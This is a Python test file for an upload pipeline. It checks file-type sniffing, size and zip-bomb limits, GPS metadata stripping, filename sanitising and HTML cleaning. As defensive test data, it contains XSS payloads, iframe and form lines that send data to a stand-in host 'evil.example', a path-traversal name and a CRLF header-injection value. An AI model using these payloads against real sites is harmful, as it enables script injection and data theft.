"""What files are by their content, what is kept of them, and the names they get."""

import io
import zipfile
from contextlib import suppress

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lti_app.core.documents import clean_document, decoded, extract_pages
from lti_app.core.errors import Refused
from lti_app.core.images import clean_picture
from lti_app.library.files import rules
from lti_app.library.files.rules import (
    Limits,
    MediaType,
    Purpose,
    display_name,
    examine,
    numbered,
    part_of_address,
    sniff,
)
from tests.factories import files

GOOD = [
    (files.pdf(["Hello"]), MediaType.PDF),
    (files.png(), MediaType.PNG),
    (files.jpeg(), MediaType.JPEG),
    (files.gif(), MediaType.GIF),
    (files.webp(), MediaType.WEBP),
    ("Größe 👍🏽\r\n\tzwei".encode(), MediaType.TEXT),
    (files.office(*files.DOCX), MediaType.DOCX),
    (files.office(*files.ODT), MediaType.ODT),
    (b"\xef\xbb\xbf  <!-- x -->\n<!DOCTYPE html><p>x", MediaType.HTML),
    (b'<?xml version="1.0"?><html><p>x</html>', MediaType.HTML),
]
BAD = [
    b"MZ\x90\x00" + bytes(60),
    b"\x7fELF" + bytes(60),
    b"text with a \x00 in it",
    b"\xff\xfeU\x00T\x00F\x00",
    "Größe".encode("latin-1"),
    files.office("a.txt"),
    files.office(*files.DOCX, "word/vbaProject.bin"),
    files.office(*files.ODT, "Basic/Standard/Module1.xml"),
]


@pytest.mark.parametrize(("data", "media_type"), GOOD)
def test_a_file_is_what_is_in_it(data, media_type):
    assert sniff(io.BytesIO(data)) is media_type


@pytest.mark.parametrize("data", BAD)
def test_other_kinds_are_not_known(data):
    assert sniff(io.BytesIO(data)) is None


def refusal(data, purpose=Purpose.ATTACHMENT, limits=None):
    with pytest.raises(Refused) as caught:
        examine(io.BytesIO(data), purpose, limits or Limits())
    return caught.value.code


def test_each_purpose_takes_its_kinds():
    taken = {
        purpose: [
            kind for data, kind in GOOD if kind in rules.TAKEN[purpose] and examine(io.BytesIO(data), purpose, Limits())
        ]
        for purpose in Purpose
    }
    assert set(taken[Purpose.READING]) == {MediaType.PDF, MediaType.HTML}
    assert set(taken[Purpose.ATTACHMENT]) == set(MediaType) - {MediaType.HTML}
    assert refusal(files.png(), Purpose.READING) == "file_type"
    assert refusal(b"<html><script>x()</script>") == "file_type"


def test_size_counts_before_anything_is_read():
    assert refusal(b"") == "file_empty"
    assert refusal(b"x" * 11, limits=Limits(attachment=10)) == "file_too_large"
    assert refusal(b"<html>" + b"x" * rules.HTML_LIMIT, Purpose.READING) == "file_too_large"


def test_html_that_would_take_too_long_to_read_is_refused():
    for html in ("<div>" * 900_000, "<p " + " ".join(f"a{n}" for n in range(300)), "&amp;" * 900_000):
        assert refusal(f"<html>{html}".encode(), Purpose.READING) == "file_too_complex"


def test_bombs_are_seen_without_being_unpacked():
    assert refusal(files.office(*files.DOCX, content=bytes(61_000_000), copies=3)) == "archive_too_large"
    assert refusal(files.office(*files.DOCX, copies=rules.MOST_MEMBERS)) == "archive_too_large"
    assert refusal(files.png(30_000, 30_000)) == "picture_too_large"
    assert refusal(b"PK\x03\x04 not really") == "file_broken"


@pytest.mark.parametrize("make", [files.png, files.jpeg, files.gif, files.webp])
def test_a_picture_cut_short_is_broken(make):
    whole = make()
    for length in range(12, len(whole) - 1):
        assert refusal(whole[:length]) in ("file_broken", "file_type"), length


@given(st.sampled_from([files.png, files.jpeg, files.gif, files.webp]), st.integers(8, 60), st.binary(max_size=40))
def test_a_mutilated_picture_is_cleaned_or_refused(make, at, instead):
    whole = make()
    with suppress(ValueError):
        clean_picture(whole[:at] + instead + whole[at + len(instead) :])


def test_pictures_do_not_tell_where_they_were_made():
    place = files.EXIF_WITH_PLACE
    xmp = b"http://ns.adobe.com/xap/1.0/\0 GPS here"
    jpeg = files.jpeg((0xE0, b"JFIF\0"), (0xE1, place), (0xE1, xmp), (0xFE, b"GPS"), (0xED, b"GPS"), after=b"GPS")
    png = files.png(2, 2, (b"tEXt", b"place\0GPS"), (b"eXIf", place[6:]), (b"gAMA", b"\0\0\xb1\x8f"))
    webp = files.webp((b"EXIF", place), (b"XMP ", b"GPS"), flags=0b1100)
    gif = files.gif(b"\x21\xfe\x03GPS\x00", b"\x21\xff\x0bXMP DataXMP\x03GPS\x00")
    for data in (jpeg, png, webp, gif):
        cleaned = clean_picture(data)
        assert b"GPS" in data
        assert b"GPS" not in cleaned.content
        assert clean_picture(cleaned.content) == cleaned
    turn = files.EXIF_WITH_PLACE.removeprefix(b"Exif\0\0").partition(b"GPS")[0]
    assert clean_picture(png).content == files.png(2, 2, (b"eXIf", turn), (b"gAMA", b"\0\0\xb1\x8f"))
    assert clean_picture(webp).content == files.webp((b"EXIF", turn), flags=0b1000)
    assert clean_picture(gif).content == files.gif()


def test_a_photograph_stays_the_way_up_that_it_was():
    exif = files.EXIF_WITH_PLACE
    photographs = {
        "jpeg": files.jpeg((0xE1, exif)),
        "png": files.png(2, 2, (b"eXIf", exif[6:])),
        "webp": files.webp((b"EXIF", exif[6:]), flags=0b1000),
        "webp with the mark that JPEG has": files.webp((b"EXIF", exif), flags=0b1000),
    }
    for name, photograph in photographs.items():
        cleaned = clean_picture(photograph).content
        assert cleaned.count(b"\x01\x12\x00\x03\x00\x00\x00\x01\x00\x06") == 1, name
        assert b"GPS" not in cleaned, name


def test_a_picture_without_notes_is_not_touched():
    for make in (files.jpeg, files.png, files.gif, files.webp):
        assert clean_picture(make()).content == make()


def test_small_earlier_versions_in_a_photograph_go():
    earlier = ((0xE0, b"JFXX\0\x10 thumbnail"), (0xE2, b"MPF\0 another"), (0xE2, b"FPXR\0 another"))
    profile = (0xE2, b"ICC_PROFILE\0\x01\x01 colors")
    assert clean_picture(files.jpeg(*earlier, profile)).content == files.jpeg(profile)


def test_an_animation_goes_on_running():
    loop = b"\x21\xff\x0bNETSCAPE2.0\x03\x01\x00\x00\x00"
    assert clean_picture(files.gif(loop)).content == files.gif(loop)


@pytest.mark.parametrize(
    ("sent", "kept"),
    [
        ("Kotter 1990.pdf", "Kotter 1990.pdf"),
        ("../../etc/passwd", "passwd.pdf"),
        (r"C:\Users\me\Käse & Brot.PDF", "Käse & Brot.pdf"),
        ("invoice.pdf.exe", "invoice.pdf.pdf"),
        ("Kotter vs. Zaleznik", "Kotter vs. Zaleznik.pdf"),
        ("Kotter vs. Zaleznik.PDF", "Kotter vs. Zaleznik.pdf"),
        ("notes.v2.final.pdf", "notes.v2.final.pdf"),
        ("notes.v2", "notes.v2.pdf"),
        ("a\r\nSet-Cookie: x=1.pdf", "aSet-Cookie_ x=1.pdf"),
        ("\u202egpj.exe", "gpj.pdf"),
        ("", "file.pdf"),
        ("...", "file.pdf"),
        ("<img src=x onerror=alert(1)>.pdf", "img src=x onerror=alert(1).pdf"),
        ("x" * 500, "x" * 120 + ".pdf"),
    ],
)
def test_names_are_only_names(sent, kept):
    assert display_name(sent, MediaType.PDF) == kept


@given(st.text(max_size=300))
def test_every_name_can_stand_in_an_address(name):
    shown = display_name(name, MediaType.TEXT)
    assert shown.endswith(".txt")
    assert not set(shown) & set('/\\"<>\r\n\0')
    part = part_of_address("0123456789abcdef", shown)
    assert part.startswith("0123456789ab-")
    assert set(part) <= set("0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ.-")


HOSTILE = [
    "<script>GPS()</script>",
    '<img src=x onerror="GPS()">',
    '<a href="javascript:GPS()">x</a>',
    '<iframe src="https://evil.example/GPS"></iframe>',
    '<form action="https://evil.example/GPS"><input name=GPS></form>',
    "<style>@import 'https://evil.example/GPS'</style>",
    '<svg onload="GPS()"><script>GPS()</script></svg>',
    '<p style="background:url(//evil.example/GPS)">x</p>',
    '<meta http-equiv="refresh" content="0;url=//evil.example/GPS">',
    '<base href="//evil.example/GPS"><p>x</p>',
    '<p id="GPS" class="GPS" onclick="GPS()">x</p>',
    '<math><mtext><table><mglyph><style><img src=x onerror="GPS()">',
]


@pytest.mark.parametrize("html", HOSTILE)
def test_nothing_in_a_document_runs_loads_or_posts(html):
    assert "GPS" not in clean_document(f"<!doctype html><html><body>{html}<p>Text</p></body></html>".encode())


def test_a_document_keeps_its_structure():
    html = "<html><head><title>T</title></head><body><h1>One</h1><p>Two <em>three</em></p><ul><li>four</li></ul></body>"
    assert clean_document(html.encode()) == "<h1>One</h1><p>Two <em>three</em></p><ul><li>four</li></ul>"


def test_paragraphs_are_numbered_and_headings_stand_below_the_pages_own():
    assert numbered("<h1>One</h1><p>Two</p><h6>x</h6><p>Three</p>") == (
        '<h2>One</h2><p id="para-1" data-paragraph="1">Two</p><h6>x</h6><p id="para-2" data-paragraph="2">Three</p>'
    )


@pytest.mark.parametrize(
    "data",
    [
        "Größe".encode(),
        "\ufeffGröße".encode(),
        "Größe".encode("utf-16"),
        '<meta charset="iso-8859-15">Größe'.encode("iso-8859-15"),
        "Größe".encode("cp1252"),
        '<meta charset="no-such">Größe'.encode("cp1252"),
    ],
)
def test_documents_are_read_in_the_encoding_they_are_in(data):
    assert decoded(data).endswith("Größe")


def test_the_words_of_each_page_of_a_pdf():
    pages = extract_pages(io.BytesIO(files.pdf(["Leaders set a direction."], [], ["Managers plan."])))
    assert [page.strip() for page in pages] == ["Leaders set a direction.", "", "Managers plan."]


@pytest.mark.parametrize(
    "data",
    [b"", b"%PDF-1.7 and nothing", files.pdf(["x"])[:200], files.pdf(["x"], encrypted=True), b"\x00" * 1000],
)
def test_a_pdf_that_cannot_be_read_has_no_words(data):
    assert extract_pages(io.BytesIO(data)) == []


def test_reading_a_pdf_ends_in_time():
    assert extract_pages(io.BytesIO(files.pdf(["x"])), seconds=0.001) == []


def test_the_archives_of_these_tests_are_archives():
    with zipfile.ZipFile(io.BytesIO(files.office(*files.DOCX))) as archive:
        assert archive.namelist() == list(files.DOCX)
